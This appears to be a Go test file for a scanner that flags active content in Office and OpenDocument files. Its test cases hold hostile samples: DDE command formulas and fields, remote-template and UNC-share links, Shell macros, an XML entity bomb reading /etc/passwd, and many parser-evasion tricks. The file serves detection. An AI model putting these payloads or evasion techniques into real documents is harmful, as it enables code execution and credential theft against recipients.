// SPDX-License-Identifier: Apache-2.0

package ooxml

import (
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func isDocument(text string, part bool) bool {
	return IsDocument(io.NewSectionReader(strings.NewReader(text), 0, int64(len(text))), part)
}

// alternatives is a field of which one piece stands in two ways.
func alternatives(choice, fallback string) string {
	return strings.Replace(wordField("DD", "@", " cmd"), `<w:r><w:instrText xml:space="preserve">@</w:instrText></w:r>`,
		`<mc:AlternateContent><mc:Choice Requires="x"><w:instrText>`+choice+`</w:instrText></mc:Choice><mc:Fallback><w:instrText>`+fallback+`</w:instrText></mc:Fallback></mc:AlternateContent>`, 1)
}

// TestCharsets: what is in charsets that are not read is told of.
func TestCharsets(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"ordinary", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><x/>`, ""},
		{"UTF-16", wide(`<?xml version="1.0" encoding="UTF-16"?><x/>`, "\xff\xfe"), ""},
		{"UTF-7", `<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-`, "UTF-7"},
		{"EBCDIC", "\x4c\x6f\xa7\x94\x93\x40", "EBCDIC"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := inspect(t, "document.xml", c.text).Charset; got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// TestEvasion: ways to write what Office reads and others may not.
func TestEvasion(t *testing.T) {
	template := `macro.template: template is loaded from "http://a.test/x.dotm"`
	for _, c := range []struct{ name, part, text, want string }{
		{"another attribute of that name", "x.rels", `<Relationships><Relationship f:Target="styles.xml" f:Type="x/styles" f:TargetMode="Internal" Type="x/attachedTemplate" Target="http://a.test/x.dotm" TargetMode="External"/></Relationships>`, template},
		{"white space in front", "x.rels", strings.Repeat(" \n", 4000) + rels("attachedTemplate", "http://a.test/x.dotm", "External"), template},
		{"single quotes, case and line ends", "x.rels", "<r:Relationship\n\tType\t=\n'http://purl.oclc.org/ooxml/officeDocument/relationships/ATTACHEDTEMPLATE'\r\nTarget='&#x68;ttp://a.test/x.dotm' TargetMode='EXTERNAL'></r:Relationship>", template},
		{"after many others", "x.rels", strings.Repeat(`<Relationship Id="a" Type="x/styles" Target="s.xml"/>`, 110_000) + rels("attachedTemplate", "http://a.test/x.dotm", "External"), template},
		{"share of a picture", "x.rels", rels("image", `\\a.test\s\x.png`, "External"), `macro.ole_link: picture, film or sound is loaded from the share "\\\\a.test\\s\\x.png", to which Windows logs on by itself`},
		{"DDE in a sheet", "sheet.xml", `<worksheet><f>cmd|'/c calc'!A0</f></worksheet>`, `macro.dde: formula "cmd|'/c calc'!A0" (sheet.xml)`},
		{"DDE in a function", "sheet.xml", `<worksheet><f>IF(1,"a|b!",'cmd'|'/c x'!A0)</f></worksheet>`, `macro.dde: formula "IF(1,\"a|b!\",'cmd'|'/c x'!A0)" (sheet.xml)`},
		{"DDE with an entity", "sheet.xml", `<worksheet><f>cmd&#x7c;'/c x'!A0</f></worksheet>`, `macro.dde: formula "cmd|'/c x'!A0" (sheet.xml)`},
		{"DDE in UTF-16", "sheet.xml", wide(`<worksheet><f>cmd|'/c x'!A0</f></worksheet>`, "\xff\xfe"), `macro.dde: formula "cmd|'/c x'!A0" (sheet.xml)`},
		{"DDE in a name", "workbook.xml", `<workbook><definedName name="x">cmd|'/c x'!A0</definedName></workbook>`, `macro.dde: formula "cmd|'/c x'!A0" (workbook.xml)`},
		{"no DDE in a sheet", "sheet.xml", `<worksheet><f>"a|b!c"&amp;'x|y'!A1</f><f>SUM(A1:B2)</f></worksheet>`, ""},
		{"instruction behind blanks", "d.xml", wordField(strings.Repeat(" ", 40_000) + "DDEAUTO cmd x"), `macro.dde: field "DDEAUTO cmd x" (d.xml)`},
		{"instruction in pieces", "d.xml", wordField("D", "DE<![CDATA[AU]]>", "TO c", "<!-- x -->md x"), `macro.dde: field "DDEAUTO cmd x" (d.xml)`},
		{"between pieces, what Word skips", "d.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:x="urn:x" mc:Ignorable="x"><w:fldChar w:fldCharType="begin"/><w:instrText>DD<x:a>no</x:a></w:instrText>` +
			`<x:fldChar x:fldCharType="separate"/><x:instrText>no</x:instrText><w:instrText xmlns:w="urn:x">no</w:instrText><w:instrText>EAUTO cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:document>`, `macro.dde: field "DDEAUTO cmd" (d.xml)`},
		{"in a choice", "d.xml", alternatives("EAUTO", "no"), `macro.dde: field "DDEAUTO cmd" (d.xml)`},
		{"in a fallback", "d.xml", alternatives("no", "EAUTO"), `macro.dde: field "DDEAUTO cmd" (d.xml)`},
		{"prefix of another name", "d.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" mc:Ignorable="x"><w:body xmlns:v="http://schemas.openxmlformats.org/&#119;ordprocessingml/2006/main"><v:fldChar v:fldCharType="begin"/>` +
			`<v:instrText>DD</v:instrText><x:instrText>no</x:instrText><v:instrText>EAUTO cmd</v:instrText><v:fldChar v:fldCharType="end"/></w:body></w:document>`, `macro.dde: field "DDEAUTO cmd" (d.xml)`},
		{"between instructions for programs", "x.rels", `<?xml version="1.0"?><Relationships><?x ='?>` + rels("attachedTemplate", "http://a.test/x.dotm", "External") + `<?x '?></Relationships>`, template},
		{"path of a device", "x.rels", rels("attachedTemplate", `\\?\UNC\a.test\s\x.dotm`, "External"), `macro.template: template is loaded from "\\\\?\\UNC\\a.test\\s\\x.dotm"`},
		{"menu", "customUI.xml", `<customUI onLoad="\\a.test\s\x.dotm!m"/>`, `macro.ole_link: menu runs a macro of "\\\\a.test\\s\\x.dotm!m" when the document is opened (customUI.xml)`},
		{"menu of its own", "customUI.xml", `<customUI onLoad="m"/>`, ""},
		{"text query", "connections.xml", `<connections><connection><textPr sourceFile="\\a.test\s\x.txt"/></connection></connections>`, `macro.query: text query loads a sheet from "\\\\a.test\\s\\x.txt"`},
		{"database", "connections.xml", `<connections><connection refreshOnLoad="1"><dbPr connection="x"/></connection></connections>`, `macro.query: query is sent to a database when the workbook is opened`},
		{"database when asked", "connections.xml", `<connections><connection><dbPr connection="x"/></connection></connections>`, ""},
		{"OpenDocument: picture", "content.xml", `<x><draw:image xlink:href="file://a.test/s/x.png"/></x>`, `macro.ole_link: picture, film or sound is loaded from the share "file://a.test/s/x.png", to which Windows logs on by itself`},
		{"OpenDocument: Basic behind comments", "M.xml", `<script:module script:name="M" script:language="StarBasic">` + strings.Repeat("' comment\n", 2000) + `Shell("x")</script:module>`, "macro.basic: macros in M"},
		{"OpenDocument: Basic behind an option", "M.xml", `<script:module script:name="M" script:language="StarBasic">Option Explicit: Sub a: Shell("x"): End Sub</script:module>`, "macro.basic: macros in M"},
		{"OpenDocument: Basic behind a carriage return", "M.xml", `<script:module script:name="M" script:language="StarBasic">' a&#13;Shell("x")</script:module>`, "macro.basic: macros in M"},
		{"film", "x.rels", rels("video", `\\a.test\s\x.mp4`, "External"), `macro.ole_link: picture, film or sound is loaded from the share "\\\\a.test\\s\\x.mp4", to which Windows logs on by itself`},
		{"Word 2003: template", "d", `<w:wordDocument><w:docPr><w:attachedTemplate w:val="http://a.test/x.dotm"/></w:docPr></w:wordDocument>`, template},
		{"Word 2003: frame", "d", `<w:wordDocument><w:frame><w:sourceFileName w:val="http://a.test/x"/></w:frame></w:wordDocument>`, `macro.ole_link: sourceFileName is loaded from "http://a.test/x"`},
		{"Word 2003: part", "d", `<w:wordDocument><w:subDoc w:link="http://a.test/x"/></w:wordDocument>`, `macro.ole_link: subDoc is loaded from "http://a.test/x"`},
		{"Word 2003: style sheet", "d", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://a.test/x.xsl"?><w:wordDocument/>`, `macro.ole_link: style sheet is loaded from "http://a.test/x.xsl"`},
		{"HTML: template", "d", `<html><xml><w:WordDocument><w:AttachedTemplate HRef="http://a.test/x.dotm"/></w:WordDocument></xml></html>`, template},
		{"HTML: field", "d", `<html><!--[if supportFields]><span style='mso-element : field-begin'></span> DDE<b>AUTO</b> cmd<span style='mso-element:field-separator'></span><![endif]-->x<span style='mso-element:field-end'></span></html>`, `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: body first", "d", "<body><span style='mso-element:field-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span></body>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: span first", "d", "<span style='mso-element:field-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: head first", "d", "<!DOCTYPE html><head></head><span style='mso-element:field-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: first element of a workbook", "d", "<sst><body><span style='mso-element:field-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span></body></sst>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: in another element", "d", "<html><span style='mso-element:field-begin'></span><f>DDEAUTO cmd</f><span style='mso-element:field-end'></span></html>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: comment before the first element", "d", "<!--[if supportFields]><span style='mso-element:field-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span><![endif]--><html></html>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: the last of a style", "d", "<html><span style='mso-element:field-x;mso-element:field-end;mso-element:\nfield-begin'></span>DDEAUTO cmd<span style='mso-element:field-end'></span></html>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML: text in a style", "d", "<html><span style='mso-element:field-begin;x:mso-element:field-end'></span>DDEAUTO cmd<span style='mso-element:field-end'></span></html>", `macro.dde: field "DDEAUTO cmd" (d)`},
		{"HTML in a comment of XML", "d", `<w:wordDocument><!-- <html --><!--[if ='> <![CDATA[ --><w:attachedTemplate w:val="http://a.test/x.dotm"/><!-- ]]> '>--></w:wordDocument>`, template},
		{"comment in XML", "d", `<w:wordDocument><!--[if ='> <![CDATA[ --><w:attachedTemplate w:val="http://a.test/x.dotm"/><!-- ]]> '>--></w:wordDocument>`, template},
		{"extension of LibreOffice", "META-INF/manifest.xml", `<manifest:manifest><manifest:file-entry manifest:full-path="a.py" manifest:media-type="application/vnd.sun.star.uno-component;type=Python"/></manifest:manifest>`, "macro.basic: scripts a.py"},
		{"web query", "connections.xml", `<connections><connection refreshOnLoad="1"><webPr url="http://a.test/q"/></connection></connections>`, `macro.query: web query loads a sheet from "http://a.test/q"`},
		{"animation", "s.xml", `<p:sld><p:cmd type="verb" cmd="0"/></p:sld>`, `macro.action: an animation starts an object (s.xml)`},
		{"browser", "activeX1.xml", `<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>`, `macro.object: control that shows or runs what comes from elsewhere ({8856F961-340A-11D0-A96B-00C04FD705A2}, activeX1.xml)`},
		{"button", "activeX1.xml", `<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>`, ""},
		{"OpenDocument: click", "content.xml", `<x><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="calc.exe"/></x>`, `macro.action: a click does "execute" with "calc.exe" (content.xml)`},
		{"OpenDocument: link", "content.xml", `<x><text:a xlink:href="vnd.sun.star.script:a.py$go?language=Python">x</text:a></x>`, `macro.action: a runs "vnd.sun.star.script:a.py$go?language=Python" (content.xml)`},
		{"OpenDocument: DDE in text", "content.xml", `<x><text:dde-connection-decl office:dde-application="soffice" office:dde-topic="t"/></x>`, `macro.dde: DDE link to "soffice" with "t" (content.xml)`},
		{"flat OpenDocument: Basic", "d", `<office:document><ooo:module ooo:name="M"><ooo:source-code>Sub Go&#10;Shell("x")</ooo:source-code></ooo:module></office:document>`, "macro.basic: macros in d"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := strings.Join(facts(inspect(t, c.part, c.text)), "\n")
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestScripts(t *testing.T) {
	want := []string{"macro.basic: scripts Scripts/python/a.py"}
	if diff := cmp.Diff(want, facts(inspect(t, "Scripts/python/a.py", "import os", "META-INF/manifest.xml", "<manifest/>"))); diff != "" {
		t.Error(diff)
	}
	if got := facts(inspect(t, "scripts/a.js", "x")); len(got) > 0 {
		t.Errorf("no OpenDocument: %q", got)
	}
}

// TestFlood: many facts of one code hide none of another.
func TestFlood(t *testing.T) {
	var b strings.Builder
	for i := range 3 * MaxFacts {
		fmt.Fprintf(&b, `<Relationship Type="x/oleObject" Target="http://a.test/%d" TargetMode="External"/>`, i)
	}
	got := facts(inspect(t, "x.rels", "<Relationships>"+b.String()+`<Relationship Type="x/attachedTemplate" Target="http://a.test/x.dotm" TargetMode="External"/></Relationships>`))
	if len(got) != MaxFacts+1 || !strings.HasPrefix(got[MaxFacts], "macro.template") {
		t.Errorf("got %d facts", len(got))
	}
}

func TestCut(t *testing.T) {
	padding := `a="` + strings.Repeat("x", maxTag) + `"`
	if r := inspect(t, "x.rels", "<Relationship "+padding+` Target="http://a.test"/>`); !r.Cut {
		t.Error("a long tag was cut, and nothing is said")
	}
	if r := inspect(t, "d.xml", "<v:shape "+padding+"/>"); r.Cut {
		t.Error("a long tag that does not count")
	}
}

// TestEntities: entities of a document's own stand for nothing, and are not expanded.
func TestEntities(t *testing.T) {
	bomb := `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>`
	r := inspect(t, "x.rels", bomb+`<Relationships><Relationship Type="x/hyperlink" Target="http://&b;&c;" TargetMode="External"/></Relationships>`)
	if diff := cmp.Diff([]string{"http://&b;&c;"}, r.Links); diff != "" {
		t.Error(diff)
	}
}

// TestHostile: elements in elements without end, and tags without end, are read in time that grows with their octets.
func TestHostile(t *testing.T) {
	const n = 300_000
	for _, text := range []string{
		strings.Repeat("<a>", n), "<a " + strings.Repeat("b='c' ", n), strings.Repeat("<![CDATA[", n), "<a>" + strings.Repeat("&amp;", n), strings.Repeat("<!--", n), strings.Repeat("<w:fldChar w:fldCharType='begin'/>", n/4),
	} {
		start := time.Now()
		if got := facts(inspect(t, "d.xml", text)); len(got) > 0 {
			t.Errorf("%.9s...: got %q", text, got)
		}
		t.Logf("%.9s...: %d octets in %v", text, len(text), time.Since(start))
	}
}

// TestDocumentAnywhere: documents in one XML file, behind anything that may stand before, and in a zip file too.
func TestDocumentAnywhere(t *testing.T) {
	long := "<!-- " + strings.Repeat("x", 2*maxHead) + " -->\n"
	for _, c := range []struct {
		text           string
		alone, archive bool
	}{
		{long + `<?mso-application progid="Word.Document"?><a/>`, true, true},
		{long + `<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">`, true, true},
		{`<?xml version="1.0"?>` + long + `<w:wordDocument xmlns:w="x">`, true, true},
		{`<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">`, true, true},
		{long + `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">`, true, true},
		{`<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">`, true, false},
		{`<w:document xmlns:o="urn:schemas-microsoft-com:office:office">`, true, false},
		{long + `<html xmlns:o="urn:schemas-microsoft-com:office:office">`, true, false},
		{long + `<html>`, false, false},
		{long, false, false},
		{"", false, false},
	} {
		if alone, archive := isDocument(c.text, false), isDocument(c.text, true); alone != c.alone || archive != c.archive {
			t.Errorf("%.60q: got %v, in an archive %v", strings.TrimPrefix(c.text, long), alone, archive)
		}
	}
}

func TestBase64(t *testing.T) {
	text := "QU&#x4a;D<!-- x -->" + strings.Repeat(" ", maxChunk-24) + "R&#x55;Z<![CDATA[H]]>RQ=="
	b, err := io.ReadAll(Base64(strings.NewReader(text)))
	if err != nil || string(b) != "ABCEFGE" {
		t.Errorf("got %q, %v", b, err)
	}
}
